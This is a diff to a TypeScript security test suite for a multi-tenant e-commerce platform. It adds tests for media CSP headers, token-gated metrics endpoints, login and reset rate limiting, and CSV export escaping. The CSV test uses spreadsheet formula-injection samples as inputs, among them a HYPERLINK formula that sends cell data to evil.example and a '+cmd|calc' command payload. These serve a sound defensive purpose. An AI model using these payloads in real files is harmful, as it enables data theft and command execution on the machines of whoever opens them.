@@ -6,6 +6,11 @@
  */
 import { gzipSync } from 'node:zlib';
 import { sql } from '@storeloom/db';
+import { importProductsCsv, UNLIMITED_CATALOG } from '@storeloom/catalog';
+import { parse } from 'csv-parse/sync';
+import { createLogger } from '@storeloom/log';
+import { createStorefrontApp } from '../../storefront/src/app.ts';
+import { createControlPlaneApp } from '../src/app.ts';
 import { loadArchiveIntoStore, type VerifiedArchive } from '@storeloom/stores';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createProduct, createStore, signup, startTestPlatform, type TestPlatform } from '../../../test/helpers/platform.ts';
@@ -102,14 +107,16 @@ describe('control-plane security (issue 15)', () => {
     const target = await createStore(p, attacker.cookie);
     const targetSchema = await schemaOf(target.id);
     const tampered = images.map((r) => ({ ...r, storage_key: victimKey }));
-    await expect(loadArchiveIntoStore(p.db, p.services.storage, archiveOf(tampered), { id: target.id, schema_name: targetSchema })).rejects.toMatchObject({
+    await expect(
+      loadArchiveIntoStore(p.db, p.services.storage, archiveOf(tampered), { id: target.id, schema_name: targetSchema }, UNLIMITED_CATALOG),
+    ).rejects.toMatchObject({
       code: 'archive_invalid',
     });
     expect(await p.db.tenant(targetSchema).selectFrom('products').select('id').execute()).toHaveLength(0);
     expect(await p.services.storage.get(`${target.id}/${ownName}`)).toBeNull();
 
     // The honest archive loads, and its image lives under the new store's own key with the archive's bytes.
-    await loadArchiveIntoStore(p.db, p.services.storage, archiveOf(images), { id: target.id, schema_name: targetSchema });
+    await loadArchiveIntoStore(p.db, p.services.storage, archiveOf(images), { id: target.id, schema_name: targetSchema }, UNLIMITED_CATALOG);
     const loaded = await p.db.tenant(targetSchema).selectFrom('images').select('storage_key').executeTakeFirstOrThrow();
     expect(loaded.storage_key).toBe(`${target.id}/${ownName}`);
     expect(new Uint8Array((await p.services.storage.get(loaded.storage_key as string))?.body ?? [])).toEqual(PNG);
@@ -127,6 +134,119 @@ describe('control-plane security (issue 15)', () => {
     expect(res.status).toBe(413);
     expect(res.body.error.code).toBe('archive_too_large');
     expect(await p.db.control.selectFrom('stores').select('id').where('slug', '=', 'bomb-shop').execute()).toHaveLength(0);
+  });
+
+  it("serves uploads with default-src 'none'; sandbox, not the console's CSP (issue 15 low)", async () => {
+    const res = await p.request('GET', `/media/${victimKey}`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    // The console itself keeps its own policy.
+    expect((await p.request('GET', '/healthz')).headers.get('content-security-policy')).toContain("script-src 'self'");
+  });
+
+  it('/metrics: in production only with METRICS_TOKEN, never on a store host name, on both apps (issue 15 low)', async () => {
+    const logger = createLogger({ level: 'silent' });
+    const metricsOf = (app: { request: (url: string, init?: RequestInit) => Response | Promise<Response> }, host: string, token?: string) =>
+      app.request(`http://${host}/metrics`, { headers: { host, ...(token ? { authorization: `Bearer ${token}` } : {}) } });
+    // Control plane, production without a token: no /metrics at all.
+    const prodOpen = createControlPlaneApp({ ...p.services, config: { ...p.services.config, metricsWithoutToken: false } }, logger);
+    expect((await metricsOf(prodOpen, 'localhost:3000')).status).toBe(404);
+    // With a token: 401 without it, 200 with it, and 404 on a store's host name even with it.
+    const token = 'metrics-token-0123456789abcdef';
+    const prod = createControlPlaneApp({ ...p.services, config: { ...p.services.config, metricsWithoutToken: false, metricsToken: token } }, logger);
+    expect((await metricsOf(prod, 'localhost:3000')).status).toBe(401);
+    const ok = await metricsOf(prod, 'localhost:3000', token);
+    expect(ok.status).toBe(200);
+    expect(await ok.text()).toContain('storeloom_http_requests_total');
+    expect((await metricsOf(prod, 'shop.localhost:3000', token)).status).toBe(404);
+
+    // Storefront: never on a store's host (it is that store's page space), in production only with the token.
+    const store = await createStore(p, victim.cookie);
+    const host = `${(await p.db.control.selectFrom('stores').select('slug').where('id', '=', store.id).executeTakeFirstOrThrow()).slug}.localhost`;
+    const sfOpen = createStorefrontApp(p.db, logger, { rootDomain: 'localhost', metricsWithoutToken: false });
+    expect((await metricsOf(sfOpen, '10.0.0.5:3001')).status).toBe(404);
+    const sf = createStorefrontApp(p.db, logger, { rootDomain: 'localhost', metricsWithoutToken: false, metricsToken: token });
+    const onStore = await metricsOf(sf, host, token);
+    expect(onStore.status).toBe(404);
+    expect(await onStore.text()).not.toContain('storeloom_http');
+    expect((await metricsOf(sf, '10.0.0.5:3001')).status).toBe(401);
+    const internal = await metricsOf(sf, '10.0.0.5:3001', token);
+    expect(internal.status).toBe(200);
+    expect(await internal.text()).toContain('storeloom_http_requests_total');
+  });
+
+  it('writes every CSV with formula cells neutralised (product export and store archives), and an export re-imports exactly (issue 15 low)', async () => {
+    const store = await createStore(p, attacker.cookie);
+    const evil = {
+      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      vendor: '+cmd|calc',
+      productType: '@SUM(1+1)',
+      tags: ['-2+3'],
+      seoTitle: "'=already quoted",
+    };
+    await createProduct(p, attacker.cookie, store.id, { ...evil, variants: [{ sku: '-SKU-1', price: 100 }] });
+    const res = await p.request('GET', `/api/v1/stores/${store.id}/products/export.csv`, { cookie: attacker.cookie });
+    expect(res.status).toBe(200);
+    // As a spreadsheet sees the file: no cell starts with a formula character; each such cell carries the leading '.
+    const sheet = parse(res.text, { columns: true }) as Record<string, string>[];
+    expect(sheet).toHaveLength(1);
+    const row = sheet[0] as Record<string, string>;
+    for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row).toMatchObject({
+      Title: `'${evil.title}`,
+      Vendor: "'+cmd|calc",
+      Type: "'@SUM(1+1)",
+      Tags: "'-2+3",
+      'SEO Title': "''=already quoted",
+      'Variant SKU': "'-SKU-1",
+    });
+    // The importer reads the cells back as the merchant wrote them.
+    const target = await createStore(p, attacker.cookie);
+    const counters = await importProductsCsv(p.db.tenant(await schemaOf(target.id)), res.text, { currency: 'USD', limits: UNLIMITED_CATALOG });
+    expect(counters.errors).toEqual([]);
+    const copy = await p.db
+      .tenant(await schemaOf(target.id))
+      .selectFrom('products')
+      .selectAll()
+      .executeTakeFirstOrThrow();
+    expect({ title: copy.title, vendor: copy.vendor, productType: copy.product_type, tags: copy.tags, seoTitle: copy.seo_title }).toEqual(evil);
+  });
+
+  it('a stranger failing sign-ins or asking for resets from other addresses cannot lock the owner out (issue 15 low)', async () => {
+    const app = createControlPlaneApp({ ...p.services, config: { ...p.services.config, trustProxy: true } }, createLogger({ level: 'silent' }));
+    const post = (path: string, body: unknown, ip: string) => {
+      const text = JSON.stringify(body);
+      return app.request(`http://localhost:3000/api/v1${path}`, {
+        method: 'POST',
+        headers: {
+          'content-type': 'application/json',
+          'content-length': String(Buffer.byteLength(text)),
+          origin: 'http://localhost:3000',
+          'x-forwarded-for': ip,
+        },
+        body: text,
+      });
+    };
+    const owner = await signup(p);
+    // Twelve wrong passwords from twelve addresses, then five more from one address (that one is slowed down).
+    for (let i = 0; i < 12; i++)
+      expect((await post('/auth/login', { email: owner.email, password: `wrong guess ${i}` }, `198.51.100.${i + 1}`)).status).toBe(401);
+    const fromOne = [];
+    for (let i = 0; i < 8; i++) fromOne.push((await post('/auth/login', { email: owner.email, password: `wrong again ${i}` }, '198.51.100.200')).status);
+    expect(fromOne.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
+    expect(fromOne.at(-1)).toBe(429);
+    // The owner, from their own address, signs in at once.
+    expect((await post('/auth/login', { email: owner.email, password: 'correct horse battery' }, '203.0.113.7')).status).toBe(200);
+
+    // Reset requests: the stranger's address is limited; the owner's request still goes through and the mailed link works.
+    const resets = [];
+    for (let i = 0; i < 6; i++) resets.push((await post('/auth/password-reset', { email: owner.email }, '198.51.100.200')).status);
+    expect(resets).toEqual([202, 202, 202, 202, 202, 429]);
+    expect((await post('/auth/password-reset', { email: owner.email }, '203.0.113.7')).status).toBe(202);
+    const [mail] = await p.services.mail.list({ to: owner.email, limit: 1 });
+    const token = /reset-password\?token=([a-z2-7]+)/.exec(mail?.text ?? '')?.[1] as string;
+    expect((await post('/auth/password-reset/confirm', { token, password: 'a fresh passphrase here' }, '203.0.113.7')).status).toBe(200);
   });
 
   it('refuses JSON bodies over 1 MiB with 413 before parsing; uploads keep their own larger limit', async () => {
